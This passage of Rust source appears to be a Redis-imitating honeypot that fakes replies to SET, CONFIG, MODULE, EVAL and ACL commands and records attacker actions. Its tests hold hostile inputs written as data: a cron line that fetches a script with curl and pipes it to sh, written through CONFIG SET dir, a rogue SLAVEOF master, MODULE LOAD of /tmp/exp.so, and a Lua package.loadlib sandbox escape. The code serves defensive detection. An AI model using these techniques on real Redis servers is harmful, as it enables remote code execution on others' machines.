        // Redis 7.0: a protected command unless `enable-module-command` (off by default).
        ("load" | "loadex" | "unload", n) if n >= 2 && v7 => Reply::err(
            "ERR MODULE command not allowed. If the enable-module-command option is set to \"local\", you can run it from a local connection, otherwise you need to set this option in the configuration file, and then restart the server.",
        ),
        ("load" | "loadex", n) if n >= 2 => {
            // What Redis 7.0 answers when dlopen() fails (no such file, wrong ELF, …).
            Reply::err("ERR Error loading the extension. Please check the server logs.")
        }
        ("list", 1) => Reply::Array(vec![]),
        ("unload", 2) => Reply::err("ERR Error unloading module: no such module with that name"),
        (sub, _) => Reply::err(format!(
            "ERR unknown subcommand or wrong number of arguments for '{}'. Try MODULE HELP.",
            clamp(sub, 128)
        )),
    }
}

/// Hex SHA-1 of a script: the name EVALSHA uses.
pub(crate) fn sha1_hex(script: &[u8]) -> String {
    hex::encode(ring::digest::digest(
        &ring::digest::SHA1_FOR_LEGACY_USE_ONLY,
        script,
    ))
}

/// SET's options.
struct SetOpts {
    expires: Option<i64>,
    keep_ttl: bool,
    nx: bool,
    xx: bool,
    get: bool,
}

fn set_opts(a: &[Vec<u8>], clock: Clock) -> Result<SetOpts, Reply> {
    let mut o = SetOpts {
        expires: None,
        keep_ttl: false,
        nx: false,
        xx: false,
        get: false,
    };
    let mut i = 0;
    while i < a.len() {
        let opt = lower(&a[i]);
        match opt.as_str() {
            "nx" => o.nx = true,
            "xx" => o.xx = true,
            "get" => o.get = true,
            "keepttl" => o.keep_ttl = true,
            "ex" | "px" | "exat" | "pxat" => {
                let n = a.get(i + 1).ok_or_else(syntax)?;
                let n = int_arg(n).ok_or_else(not_int)?;
                if n <= 0 {
                    return Err(Reply::err("ERR invalid expire time in 'set' command"));
                }
                o.expires = Some(match opt.as_str() {
                    "ex" => clock.unix_ms.saturating_add(n.saturating_mul(1000)),
                    "px" => clock.unix_ms.saturating_add(n),
                    "exat" => n.saturating_mul(1000),
                    _ => n,
                });
                i += 1;
            }
            _ => return Err(syntax()),
        }
        i += 1;
    }
    if o.nx && o.xx {
        return Err(syntax());
    }
    Ok(o)
}

impl Conn {
    fn view<'a>(&'a self, ks: &Keyspace, clock: Clock) -> InfoView<'a> {
        InfoView {
            now_unix_ms: clock.unix_ms,
            tcp_port: self.tcp_port,
            connected_clients: self.connected_clients,
            keyspace: (0..DATABASES)
                .map(|i| (i, ks.db(i)))
                .filter(|(_, d)| !d.is_empty())
                .map(|(i, d)| {
                    (
                        i,
                        d.len(),
                        d.values().filter(|e| e.expires_unix_ms.is_some()).count(),
                    )
                })
                .collect(),
            dataset_bytes: ks.bytes(),
            changes_since_save: ks.changes_since_save,
            last_save_unix: ks.last_save_unix,
            saves: ks.saves,
            replica_of: self
                .replica_of
                .as_ref()
                .map(|(h, p, t)| (h.as_str(), *p, *t)),
            scripts: self.scripts.len(),
        }
    }

    fn ttl_of(&self, ks: &Keyspace, key: &[u8], clock: Clock, millis: bool) -> i64 {
        match ks.get(self.db, key) {
            None => -2,
            Some(Entry {
                expires_unix_ms: None,
                ..
            }) => -1,
            Some(Entry {
                expires_unix_ms: Some(t),
                ..
            }) => {
                let left = (t - clock.unix_ms).max(0);
                if millis { left } else { (left + 500) / 1000 }
            }
        }
    }

    fn incr(
        &mut self,
        ks: &mut Keyspace,
        key: &[u8],
        by: i64,
        clock: Clock,
        events: &mut Vec<EventKind>,
    ) -> Reply {
        let (cur, ttl) = match ks.get(self.db, key) {
            None => (0, None),
            Some(e) => match parse_i64(&str_value(e)) {
                Some(n) => (n, e.expires_unix_ms),
                None => return not_int(),
            },
        };
        let Some(n) = cur.checked_add(by) else {
            return Reply::err("ERR increment or decrement would overflow");
        };
        if self.store(
            ks,
            key,
            Value::Str(n.to_string().into_bytes()),
            ttl,
            clock,
            events,
        ) {
            Reply::Int(n)
        } else {
            oom()
        }
    }

    fn data(
        &mut self,
        ks: &mut Keyspace,
        name: &str,
        a: &[Vec<u8>],
        clock: Clock,
        events: &mut Vec<EventKind>,
    ) -> Reply {
        if let Some(r) = self.collection(ks, name, a, clock, events) {
            return r;
        }
        // String commands on another type: Redis's WRONGTYPE.
        let on_string = matches!(
            name,
            "get" | "getset" | "append" | "strlen" | "incr" | "decr" | "incrby" | "decrby"
        ) || (name == "set" && a[2..].iter().any(|o| lower(o) == "get"));
        if on_string
            && ks
                .get(self.db, &a[0])
                .is_some_and(|e| !matches!(e.value, Value::Str(_)))
        {
            return wrongtype();
        }
        if name == "mget" {
            // MGET shows other types as nil, as Redis does.
            let mut items = Vec::with_capacity(a.len());
            for k in a {
                let Some(Entry {
                    value: Value::Str(v),
                    ..
                }) = ks.get(self.db, k)
                else {
                    items.push(Reply::Nil);
                    continue;
                };
                // Charged before the copy: naming one key a thousand times cannot
                // make a thousand copies of its value.
                if !self.reply_charge(v.len()) {
                    return Reply::Nil;
                }
                items.push(Reply::Bulk(v.clone()));
            }
            return Reply::Array(items);
        }
        match name {
            "set" => {
                let o = match set_opts(&a[2..], clock) {
                    Ok(o) => o,
                    Err(r) => return r,
                };
                let old_len = ks.get(self.db, &a[0]).map_or(0, str_len);
                if o.get && !self.reply_charge(old_len) {
                    return Reply::Nil;
                }
                let old = ks
                    .get(self.db, &a[0])
                    .map(|e| (str_value(e), e.expires_unix_ms));
                if (o.nx && old.is_some()) || (o.xx && old.is_none()) {
                    return if o.get {
                        old.map_or(Reply::Nil, |(v, _)| Reply::Bulk(v))
                    } else {
                        Reply::Nil
                    };
                }
                let expires = if o.keep_ttl {
                    old.as_ref().and_then(|(_, t)| *t)
                } else {
                    o.expires
                };
                if !self.store(ks, &a[0], Value::Str(a[1].clone()), expires, clock, events) {
                    return oom();
                }
                if o.get {
                    old.map_or(Reply::Nil, |(v, _)| Reply::Bulk(v))
                } else {
                    Reply::ok()
                }
            }
            "setnx" => {
                if ks.get(self.db, &a[0]).is_some() {
                    Reply::Int(0)
                } else if self.store(ks, &a[0], Value::Str(a[1].clone()), None, clock, events) {
                    Reply::Int(1)
                } else {
                    oom()
                }
            }
            "setex" | "psetex" => {
                let Some(n) = int_arg(&a[1]) else {
                    return not_int();
                };
                if n <= 0 {
                    return Reply::err(format!("ERR invalid expire time in '{name}' command"));
                }
                let ms = if name == "setex" {
                    n.saturating_mul(1000)
                } else {
                    n
                };
                if self.store(
                    ks,
                    &a[0],
                    Value::Str(a[2].clone()),
                    Some(clock.unix_ms.saturating_add(ms)),
                    clock,
                    events,
                ) {
                    Reply::ok()
                } else {
                    oom()
                }
            }
            "getset" => {
                let old_len = ks.get(self.db, &a[0]).map_or(0, str_len);
                if !self.reply_charge(old_len) {
                    return Reply::Nil;
                }
                let old = ks.get(self.db, &a[0]).map(str_value);
                if !self.store(ks, &a[0], Value::Str(a[1].clone()), None, clock, events) {
                    return oom();
                }
                old.map_or(Reply::Nil, Reply::Bulk)
            }
            "append" => {
                let mut v = ks.get(self.db, &a[0]).map(str_value).unwrap_or_default();
                let ttl = ks.get(self.db, &a[0]).and_then(|e| e.expires_unix_ms);
                if v.len() + a[1].len() > MAX_VALUE {
                    // Refused before the copy; `store` records it as the node's bound.
                    let _ = self.store(
                        ks,
                        &a[0],
                        Value::Str(vec![0; MAX_VALUE + 1]),
                        ttl,
                        clock,
                        events,
                    );
                    return oom();
                }
                v.extend_from_slice(&a[1]);
                let n = v.len() as i64;
                if self.store(ks, &a[0], Value::Str(v), ttl, clock, events) {
                    Reply::Int(n)
                } else {
                    oom()
                }
            }
            "get" => {
                let Some(e) = ks.get(self.db, &a[0]) else {
                    return Reply::Nil;
                };
                if !self.reply_charge(str_len(e)) {
                    return Reply::Nil;
                }
                Reply::Bulk(str_value(e))
            }
            "mset" => {
                if !a.len().is_multiple_of(2) {
                    return wrong_args("mset");
                }
                for kv in a.chunks(2) {
                    if !self.store(ks, &kv[0], Value::Str(kv[1].clone()), None, clock, events) {
                        return oom();
                    }
                }
                Reply::ok()
            }
            "strlen" => Reply::Int(ks.get(self.db, &a[0]).map_or(0, |e| str_len(e) as i64)),
            "incr" => self.incr(ks, &a[0], 1, clock, events),
            "decr" => self.incr(ks, &a[0], -1, clock, events),
            "incrby" | "decrby" => match int_arg(&a[1]) {
                Some(n) if name == "incrby" => self.incr(ks, &a[0], n, clock, events),
                Some(n) => match n.checked_neg() {
                    Some(m) => self.incr(ks, &a[0], m, clock, events),
                    None => Reply::err("ERR decrement would overflow"),
                },
                None => not_int(),
            },
            "del" | "unlink" => {
                Reply::Int(a.iter().filter(|k| ks.remove(self.db, k).is_some()).count() as i64)
            }
            "exists" => {
                Reply::Int(a.iter().filter(|k| ks.get(self.db, k).is_some()).count() as i64)
            }
            "type" => Reply::Simple(
                ks.get(self.db, &a[0])
                    .map_or("none", |e| e.value.kind().name())
                    .into(),
            ),
            "ttl" => Reply::Int(self.ttl_of(ks, &a[0], clock, false)),
            "pttl" => Reply::Int(self.ttl_of(ks, &a[0], clock, true)),
            "expire" | "pexpire" => {
                let Some(n) = int_arg(&a[1]) else {
                    return not_int();
                };
                let ms = if name == "expire" {
                    n.saturating_mul(1000)
                } else {
                    n
                };
                // Stored as an absolute time, so a TTL holds across a restart.
                if ks.set_expiry(self.db, &a[0], Some(clock.unix_ms.saturating_add(ms))) {
                    ks.sweep(clock.unix_ms);
                    Reply::Int(1)
                } else {
                    Reply::Int(0)
                }
            }
            "persist" => match ks.get(self.db, &a[0]) {
                Some(e) if e.expires_unix_ms.is_some() => {
                    ks.set_expiry(self.db, &a[0], None);
                    Reply::Int(1)
                }
                _ => Reply::Int(0),
            },
            "rename" => match ks.rename(self.db, &a[0], &a[1], self.source, clock.unix_ms) {
                Ok(true) => Reply::ok(),
                Ok(false) => Reply::err("ERR no such key"),
                Err(r) => {
                    self.refused(ks, r, clock, events);
                    oom()
                }
            },
            "keys" => {
                let mut budget = GLOB_BUDGET;
                let mut items = Vec::new();
                for k in ks.db(self.db).keys() {
                    if !glob(&a[0], k, false, &mut budget) {
                        continue;
                    }
                    if !charge_reply(&mut self.reply_left, &mut self.reply_over, k.len()) {
                        return Reply::Nil;
                    }
                    items.push(Reply::bulk(k));
                }
                Reply::Array(items)
            }
            "scan" => {
                let Some(cursor) = scan_cursor(&a[0]) else {
                    return Reply::err("ERR invalid cursor");
                };
                let mut pattern: &[u8] = b"*";
                let mut count = SCAN_COUNT;
                let mut i = 1;
                while i < a.len() {
                    match (lower(&a[i]).as_str(), a.get(i + 1)) {
                        ("match", Some(p)) => pattern = p,
                        ("count", Some(n)) => match int_arg(n) {
                            Some(n) if n >= 1 => {
                                count = usize::try_from(n)
                                    .unwrap_or(MAX_SCAN_COUNT)
                                    .min(MAX_SCAN_COUNT)
                            }
                            Some(_) => return syntax(),
                            None => return not_int(),
                        },
                        ("type", Some(_)) => {}
                        _ => return syntax(),
                    }
                    i += 2;
                }
                // The cursor is a position in the database's key order: COUNT keys are
                // visited per call (MATCH filters them), as Redis pages through its table.
                let mut budget = GLOB_BUDGET;
                let mut items = Vec::new();
                let db = ks.db(self.db);
                let mut next = 0;
                for (n, k) in db.keys().enumerate().skip(cursor).take(count) {
                    next = n + 1;
                    if !glob(pattern, k, false, &mut budget) {
                        continue;
                    }
                    if !charge_reply(&mut self.reply_left, &mut self.reply_over, k.len()) {
                        return Reply::Nil;
                    }
                    items.push(Reply::bulk(k));
                }
                if next >= db.len() {
                    next = 0;
                }
                Reply::Array(vec![Reply::bulk(next.to_string()), Reply::Array(items)])
            }
            "randomkey" => ks.db(self.db).keys().next().map_or(Reply::Nil, Reply::bulk),
            "dbsize" => Reply::Int(ks.db(self.db).len() as i64),
            "flushall" | "flushdb" => {
                if a.len() > 1
                    || a.first()
                        .is_some_and(|m| !matches!(lower(m).as_str(), "async" | "sync"))
                {
                    return syntax();
                }
                // The node's keyspace, for every connection and source, as on a real
                // instance; the command itself is recorded like any other.
                ks.flush((name == "flushdb").then_some(self.db));
                Reply::ok()
            }
            "select" => match int_arg(&a[0]) {
                Some(n) if (0..DATABASES as i64).contains(&n) => {
                    self.db = n as usize;
                    Reply::ok()
                }
                Some(_) => Reply::err("ERR DB index is out of range"),
                None => not_int(),
            },
            "lastsave" => Reply::Int(ks.last_save_unix),
            "time" => Reply::Array(vec![
                Reply::bulk((clock.unix_ms / 1000).to_string()),
                Reply::bulk(((clock.unix_ms % 1000) * 1000).to_string()),
            ]),
            "role" => match &self.replica_of {
                None => Reply::Array(vec![
                    Reply::bulk("master"),
                    Reply::Int(0),
                    Reply::Array(vec![]),
                ]),
                Some((h, p, _)) => Reply::Array(vec![
                    Reply::bulk("slave"),
                    Reply::bulk(h),
                    Reply::Int(i64::from(*p)),
                    Reply::bulk("connect"),
                    Reply::Int(-1),
                ]),
            },
            "bgrewriteaof" => Reply::Simple("Background append only file rewriting started".into()),
            "wait" => Reply::Int(0),
            "client" => self.client(a, clock),
            "command" => super::command_table::command(a),
            "slowlog" => match a.first().map(|s| lower(s)).as_deref() {
                Some("get") => Reply::Array(vec![]),
                Some("len") => Reply::Int(0),
                Some("reset") => Reply::ok(),
                _ => Reply::err("ERR unknown subcommand. Try SLOWLOG HELP."),
            },
            "memory" => match a.first().map(|s| lower(s)).as_deref() {
                Some("usage") if a.len() >= 2 => ks.get(self.db, &a[1]).map_or(Reply::Nil, |e| {
                    Reply::Int(56 + (a[1].len() + e.value.size()) as i64)
                }),
                // Under 5 MB used (as INFO's used_memory reckons it), 7.0's doctor
                // declines to look.
                Some("doctor") if 872_456 + 2 * ks.bytes() < 5 * 1024 * 1024 => Reply::bulk(
                    "Hi Sam, this instance is empty or is using very little memory, my issues detector can't be used in these conditions. Please, leave for your mission on Earth and fill it with some data. The new Sam and I will be back to our programming as soon as I finished rebooting.\n",
                ),
                Some("doctor") => Reply::bulk(
                    "Hi Sam, I can't find any memory issue in your instance. I can only account for what occurs on this base.\n",
                ),
                _ => Reply::err("ERR unknown subcommand. Try MEMORY HELP."),
            },
            "debug" => Reply::err(
                "ERR DEBUG command not allowed. If the enable-debug-command option is set to \"local\", you can run it from a local connection, otherwise you need to set this option in the configuration file, and then restart the server.",
            ),
            "latency" => match a.first().map(|s| lower(s)).unwrap_or_default().as_str() {
                "doctor" => Reply::bulk(
                    "I'm sorry, Dave, I can't do that. Latency monitoring is disabled in this Redis instance. You may use \"CONFIG SET latency-monitor-threshold <milliseconds>.\" in order to enable it. If we weren't in a deep space mission I'd suggest to take a look at https://redis.io/topics/latency-monitor.\n",
                ),
                "reset" => Reply::Int(0),
                _ => Reply::Array(vec![]),
            },
            "cluster" => Reply::err("ERR This instance has cluster support disabled"),
            "function" => match lower(&a[0]).as_str() {
                "list" => Reply::Array(vec![]),
                "flush" if a.len() <= 2 => Reply::ok(),
                "stats" => Reply::Map(vec![
                    (Reply::bulk("running_script"), Reply::Nil),
                    (
                        Reply::bulk("engines"),
                        Reply::Map(vec![(
                            Reply::bulk("LUA"),
                            Reply::Map(vec![
                                (Reply::bulk("libraries_count"), Reply::Int(0)),
                                (Reply::bulk("functions_count"), Reply::Int(0)),
                            ]),
                        )]),
                    ),
                ]),
                _ => Reply::err(format!(
                    "ERR unknown subcommand '{}'. Try FUNCTION HELP.",
                    clamp(&String::from_utf8_lossy(&a[0]), 128)
                )),
            },
            "acl" => match a.first().map(|s| lower(s)).as_deref() {
                Some("whoami") => Reply::bulk("default"),
                // 7.0's form (7.2 added `sanitize-payload`); the password's SHA-256.
                Some("list") => Reply::Array(vec![Reply::bulk(if self.settings.require_auth {
                    format!(
                        "user default on #{} ~* &* +@all",
                        hex::encode(ring::digest::digest(
                            &ring::digest::SHA256,
                            self.settings.facts.requirepass.as_bytes()
                        ))
                    )
                } else {
                    "user default on nopass ~* &* +@all".to_owned()
                })]),
                Some("users") => Reply::Array(vec![Reply::bulk("default")]),
                _ => Reply::err("ERR unknown subcommand. Try ACL HELP."),
            },
            _ => Reply::err(format!("ERR unknown command '{name}'")),
        }
    }

    fn client(&mut self, a: &[Vec<u8>], clock: Clock) -> Reply {
        let sub = a.first().map(|s| lower(s)).unwrap_or_default();
        match (sub.as_str(), a.len()) {
            ("id", 1) => Reply::Int(self.client_id as i64),
            ("getname", 1) => self.client_name.clone().map_or(Reply::Nil, Reply::Bulk),
            ("setname", 2) => match self.set_name(&a[1]) {
                Ok(()) => Reply::ok(),
                Err(e) => e,
            },
            ("list" | "info", _) => {
                let age = ((clock.unix_ms - self.started_unix_ms) / 1000).max(0);
                let name = self
                    .client_name
                    .as_deref()
                    .map(String::from_utf8_lossy)
                    .unwrap_or_default();
                let line = format!(
                    "id={} addr={} laddr={} fd=8 name={} age={age} idle=0 flags=N db={} sub=0 psub=0 ssub=0 multi=-1 qbuf=26 qbuf-free=20448 argv-mem=10 multi-mem=0 rbs=1024 rbp=0 obl=0 oll=0 omem=0 tot-mem=22298 events=r cmd=client|{sub} user=default redir=-1 resp={}\n",
                    self.client_id,
                    self.peer,
                    self.local,
                    name,
                    self.db,
                    if self.resp3 { 3 } else { 2 }
                );
                Reply::Verbatim(line.into_bytes())
            }
            ("kill", _) => Reply::err("ERR No such client"),
            ("reply" | "no-evict", _) => Reply::ok(),
            _ => Reply::err(format!(
                "ERR unknown subcommand or wrong number of arguments for '{}'. Try CLIENT HELP.",
                clamp(&sub, 128)
            )),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const T0: i64 = 1_700_000_000_000;

    fn settings(require_auth: bool, login: LoginPolicy) -> Arc<Settings> {
        Arc::new(Settings {
            facts: ServerFacts::new("7.0.15", "s3cret".into(), T0, "6.1.0-18-amd64"),
            require_auth,
            login,
            node: Node::memory(std::time::Duration::from_secs(7 * 86_400), T0),
        })
    }

    fn conn(require_auth: bool, login: LoginPolicy) -> Conn {
        conn_from(&settings(require_auth, login), "127.0.0.1:40000")
    }

    /// Another connection to the same service (so the same keyspace), from `peer`.
    fn conn_from(settings: &Arc<Settings>, peer: &str) -> Conn {
        Conn::new(
            Arc::clone(settings),
            peer.parse().unwrap(),
            "127.0.0.1:6379".parse().unwrap(),
            1,
            Clock { unix_ms: T0 },
        )
    }

    fn run(c: &mut Conn, line: &str) -> Outcome {
        run_at(c, line, T0)
    }

    fn run_at(c: &mut Conn, line: &str, t: i64) -> Outcome {
        let args = super::super::resp::split_args(line.as_bytes()).unwrap();
        c.execute(&args, Clock { unix_ms: t })
    }

    fn reply(c: &mut Conn, line: &str) -> Reply {
        run(c, line).reply.expect("a reply")
    }

    #[test]
    fn ping_echo_and_errors_like_redis() {
        let mut c = conn(false, LoginPolicy::Never);
        assert_eq!(reply(&mut c, "PING"), Reply::Simple("PONG".into()));
        assert_eq!(reply(&mut c, "ping hi"), Reply::bulk("hi"));
        assert_eq!(reply(&mut c, "ECHO x"), Reply::bulk("x"));
        assert_eq!(
            reply(&mut c, "GET / HTTP/1.0"),
            Reply::err("ERR wrong number of arguments for 'get' command")
        );
        assert_eq!(
            reply(&mut c, "FOO a b"),
            Reply::err("ERR unknown command 'FOO', with args beginning with: 'a' 'b' ")
        );
        let post = run(&mut c, "POST / HTTP/1.1");
        assert!(post.close && post.discard_pending && post.reply.is_none());
        assert!(
            matches!(&post.events[..], [EventKind::LimitReached { limit, .. }] if limit == "redis_cross_protocol"),
            "{:?}",
            post.events
        );
        let host = run(&mut c, "Host: x");
        assert!(host.close && host.discard_pending && host.reply.is_none());
    }

    #[test]
    fn auth_without_requirepass_answers_like_redis() {
        let mut c = conn(false, LoginPolicy::Never);
        let o = run(&mut c, "AUTH hunter2");
        assert!(
            matches!(&o.reply, Some(Reply::Error(e)) if e.starts_with("ERR AUTH <password> called without any password configured"))
        );
        match &o.events[..] {
            [EventKind::AuthAttempt(a)] => {
                assert_eq!(
                    (a.username.as_str(), a.password.as_deref(), a.success),
                    ("default", Some("hunter2"), false)
                );
            }
            e => panic!("{e:?}"),
        }
    }

    #[test]
    fn requirepass_gates_everything_but_auth() {
        let mut c = conn(
            true,
            LoginPolicy::Credentials(vec![("default".into(), "letmein".into())]),
        );
        assert_eq!(
            reply(&mut c, "PING"),
            Reply::err("NOAUTH Authentication required.")
        );
        assert_eq!(
            reply(&mut c, "CONFIG GET dir"),
            Reply::err("NOAUTH Authentication required.")
        );
        // Unknown commands and wrong arity are checked first, as in Redis 7.
        assert_eq!(
            reply(&mut c, "GET / HTTP/1.0"),
            Reply::err("ERR wrong number of arguments for 'get' command")
        );
        let o = run(&mut c, "AUTH wrong");
        assert_eq!(o.reply, Some(wrongpass()));
        let o = run(&mut c, "AUTH admin letmein");
        assert_eq!(o.reply, Some(wrongpass()));
        match &o.events[..] {
            [EventKind::AuthAttempt(a)] => assert_eq!(a.username, "admin"),
            e => panic!("{e:?}"),
        }
        let o = run(&mut c, "AUTH letmein");
        assert_eq!(o.reply, Some(Reply::ok()));
        assert!(matches!(&o.events[..], [EventKind::AuthAttempt(a)] if a.success));
        assert_eq!(reply(&mut c, "PING"), Reply::Simple("PONG".into()));
        assert_eq!(
            reply(&mut c, "CONFIG GET requirepass"),
            Reply::Map(vec![(Reply::bulk("requirepass"), Reply::bulk("s3cret"))])
        );
    }

    #[test]
    fn after_attempts_policy_counts_failures_per_connection() {
        let mut c = conn(true, LoginPolicy::AfterAttempts(2));
        assert_eq!(reply(&mut c, "AUTH a"), wrongpass());
        assert_eq!(reply(&mut c, "AUTH b"), wrongpass());
        assert_eq!(reply(&mut c, "AUTH c"), Reply::ok());
    }

    #[test]
    fn protected_configs_are_refused_like_7_0_and_save_still_captures() {
        let mut c = conn(false, LoginPolicy::Never);
        assert_eq!(
            reply(&mut c, "CONFIG SET dir /var/spool/cron/crontabs"),
            Reply::err(
                "ERR CONFIG SET failed (possibly related to argument 'dir') - can't set protected config"
            )
        );
        assert_eq!(
            reply(&mut c, "config set maxmemory 1mb dbfilename root"),
            Reply::err(
                "ERR CONFIG SET failed (possibly related to argument 'dbfilename') - can't set protected config"
            )
        );
        assert_eq!(
            reply(&mut c, "CONFIG SET daemonize no"),
            Reply::err(
                "ERR CONFIG SET failed (possibly related to argument 'daemonize') - can't set immutable config"
            )
        );
        // Whole or nothing: maxmemory was not set, dir is still the default.
        assert_eq!(
            reply(&mut c, "CONFIG GET dir"),
            Reply::Map(vec![(Reply::bulk("dir"), Reply::bulk("/var/lib/redis"))])
        );
        assert_eq!(
            reply(&mut c, "CONFIG GET maxmemory"),
            Reply::Map(vec![(Reply::bulk("maxmemory"), Reply::bulk("0"))])
        );
        assert_eq!(
            reply(&mut c, "CONFIG SET nosuch 1"),
            Reply::err("ERR Unknown option or number of arguments for CONFIG SET - 'nosuch'")
        );
        assert_eq!(
            reply(
                &mut c,
                "SET x \"\\n*/1 * * * * curl -fsSL http://x/y.sh | sh\\n\""
            ),
            Reply::ok()
        );
        let o = run(&mut c, "SAVE");
        assert_eq!(o.reply, Some(Reply::ok()));
        let cap = o.capture.expect("capture of the would-be file");
        assert_eq!(cap.path, "/var/spool/cron/crontabs/root");
        assert!(cap.meta.contains(&("config_refused".into(), "true".into())));
        assert_eq!(
            cap.content,
            b"\n*/1 * * * * curl -fsSL http://x/y.sh | sh\n\n"
        );
        // A save without a redirect is ordinary and not captured.
        let mut c = conn(false, LoginPolicy::Never);
        reply(&mut c, "SET a b");
        assert!(run(&mut c, "BGSAVE").capture.is_none());
    }

    #[test]
    fn a_6_x_version_accepts_config_set_dir_as_6_x_did() {
        let s = Arc::new(Settings {
            facts: ServerFacts::new("6.2.14", "s3cret".into(), T0, "6.1.0-18-amd64"),
            require_auth: false,
            login: LoginPolicy::Never,
            node: Node::memory(std::time::Duration::from_secs(86_400), T0),
        });
        let mut c = conn_from(&s, "127.0.0.1:40000");
        assert_eq!(reply(&mut c, "CONFIG SET dir /tmp"), Reply::ok());
        assert_eq!(reply(&mut c, "CONFIG SET dbfilename root"), Reply::ok());
        assert_eq!(
            reply(&mut c, "CONFIG GET dir"),
            Reply::Map(vec![(Reply::bulk("dir"), Reply::bulk("/tmp"))])
        );
        reply(&mut c, "SET x payload");
        let cap = run(&mut c, "SAVE").capture.expect("captured");
        assert_eq!(cap.path, "/tmp/root");
        assert!(
            cap.meta
                .contains(&("config_refused".into(), "false".into()))
        );
        assert_eq!(
            reply(&mut c, "MODULE LOAD /tmp/exp.so"),
            Reply::err("ERR Error loading the extension. Please check the server logs.")
        );
    }

    #[test]
    fn replicaof_is_a_download_never_a_connection() {
        let mut c = conn(false, LoginPolicy::Never);
        let o = run(&mut c, "SLAVEOF 203.0.113.9 8886");
        assert_eq!(o.reply, Some(Reply::ok()));
        assert_eq!(
            o.events,
            vec![EventKind::Download {
                url: "redis://203.0.113.9:8886".into(),
                tool: "replicaof".into()
            }]
        );
        let Reply::Verbatim(info) = reply(&mut c, "INFO replication") else {
            panic!()
        };
        assert!(
            String::from_utf8(info)
                .unwrap()
                .contains("role:slave\r\nmaster_host:203.0.113.9\r\nmaster_port:8886\r\n")
        );
        assert_eq!(reply(&mut c, "REPLICAOF no one"), Reply::ok());
        assert_eq!(
            reply(&mut c, "REPLICAOF h port"),
            Reply::err("ERR Invalid master port")
        );
    }

    #[test]
    fn module_and_eval_answer_plausibly() {
        let mut c = conn(false, LoginPolicy::Never);
        assert_eq!(
            reply(&mut c, "MODULE LOAD /tmp/exp.so"),
            Reply::err(
                "ERR MODULE command not allowed. If the enable-module-command option is set to \"local\", you can run it from a local connection, otherwise you need to set this option in the configuration file, and then restart the server."
            )
        );
        assert_eq!(reply(&mut c, "EVAL \"return 1\" 0"), Reply::Int(1));
        assert_eq!(
            reply(&mut c, "EVAL \"return redis.call('ping')\" 0"),
            Reply::Simple("PONG".into())
        );
        assert_eq!(
            reply(
                &mut c,
                "EVAL \"return redis.call('set',KEYS[1],ARGV[1])\" 1 k v"
            ),
            Reply::ok()
        );
        assert_eq!(
            reply(&mut c, "EVAL \"return {redis.call('get','k'),1,'x'}\" 0"),
            Reply::Array(vec![Reply::bulk("v"), Reply::Int(1), Reply::bulk("x")])
        );
        let Reply::Error(e) = reply(
            &mut c,
            "EVAL \"return redis.call('config','set','dir','/tmp')\" 0",
        ) else {
            panic!()
        };
        assert!(
            e.starts_with("ERR This Redis command is not allowed from script script: "),
            "{e}"
        );
        assert_eq!(
            reply(&mut c, "EVAL \"return redis.pcall('nosuch')\" 0"),
            Reply::err("ERR Unknown Redis command called from script")
        );
        assert_eq!(reply(&mut c, "EVAL \"return 'hi'\" 0"), Reply::bulk("hi"));
        let evil = "local io_l = package.loadlib(\"/usr/lib/x86_64-linux-gnu/liblua5.1.so.0\", \"luaopen_io\"); return 1";
        let sha = sha1_hex(evil.as_bytes());
        let Reply::Error(e) = reply(&mut c, &format!("EVAL '{evil}' 0")) else {
            panic!()
        };
        assert_eq!(
            e,
            format!(
                "ERR user_script:1: Script attempted to access nonexistent global variable 'package' script: {sha}, on @user_script:1."
            )
        );
        assert!(matches!(
            reply(&mut c, &format!("EVALSHA {sha} 0")),
            Reply::Error(_)
        ));
        assert_eq!(
            reply(&mut c, "EVALSHA 0000000000000000000000000000000000000000 0"),
            Reply::err("NOSCRIPT No matching script. Please use EVAL.")
        );
        assert_eq!(
            reply(&mut c, "EVAL x 2 k"),
            Reply::err("ERR Number of keys can't be greater than number of args")
        );
        assert_eq!(
            sha1_hex(b"return 1"),
            "e0e1f9fabfc9d4800c877a703b823ac0578ff8db"
        );
    }

    #[test]
    fn keyspace_commands() {
        let mut c = conn(false, LoginPolicy::Never);
        assert_eq!(reply(&mut c, "SET a 1"), Reply::ok());
        assert_eq!(reply(&mut c, "SET b 2 EX 10"), Reply::ok());
        assert_eq!(reply(&mut c, "SET a 3 NX"), Reply::Nil);
        assert_eq!(reply(&mut c, "GET a"), Reply::bulk("1"));
        assert_eq!(reply(&mut c, "INCR a"), Reply::Int(2));
        assert_eq!(reply(&mut c, "EXISTS a b c"), Reply::Int(2));
        assert_eq!(reply(&mut c, "TYPE a"), Reply::Simple("string".into()));
        assert_eq!(reply(&mut c, "TYPE zz"), Reply::Simple("none".into()));
        assert_eq!(reply(&mut c, "TTL a"), Reply::Int(-1));
        assert_eq!(reply(&mut c, "TTL b"), Reply::Int(10));
        assert_eq!(reply(&mut c, "TTL zz"), Reply::Int(-2));
        assert_eq!(
            reply(&mut c, "KEYS *"),
            Reply::Array(vec![Reply::bulk("a"), Reply::bulk("b")])
        );
        assert_eq!(reply(&mut c, "DBSIZE"), Reply::Int(2));
        // Expiry is evaluated against the clock passed in.
        assert_eq!(run_at(&mut c, "GET b", T0 + 11_000).reply, Some(Reply::Nil));
        assert_eq!(reply(&mut c, "EXPIRE a 5"), Reply::Int(1));
        assert_eq!(reply(&mut c, "SELECT 3"), Reply::ok());
        assert_eq!(reply(&mut c, "DBSIZE"), Reply::Int(0));
        assert_eq!(reply(&mut c, "SET c 1"), Reply::ok());
        assert_eq!(
            reply(&mut c, "SELECT 16"),
            Reply::err("ERR DB index is out of range")
        );
        let Reply::Verbatim(ks) = reply(&mut c, "INFO keyspace") else {
            panic!()
        };
        assert_eq!(
            String::from_utf8(ks).unwrap(),
            "# Keyspace\r\ndb0:keys=1,expires=1,avg_ttl=0\r\ndb3:keys=1,expires=0,avg_ttl=0\r\n"
        );
        assert_eq!(reply(&mut c, "FLUSHALL"), Reply::ok());
        assert_eq!(reply(&mut c, "DBSIZE"), Reply::Int(0));
        {
            let ks = c.settings.node.lock();
            assert_eq!((ks.keys(), ks.bytes()), (0, 0));
        }
        assert_eq!(reply(&mut c, "DEL a"), Reply::Int(0));
        assert_eq!(reply(&mut c, "CLIENT SETNAME me"), Reply::ok());
        assert_eq!(reply(&mut c, "CLIENT GETNAME"), Reply::bulk("me"));
        assert!(run(&mut c, "QUIT").close);
    }

    #[test]
    fn typed_values_and_wrongtype() {
        let mut c = conn(false, LoginPolicy::Never);
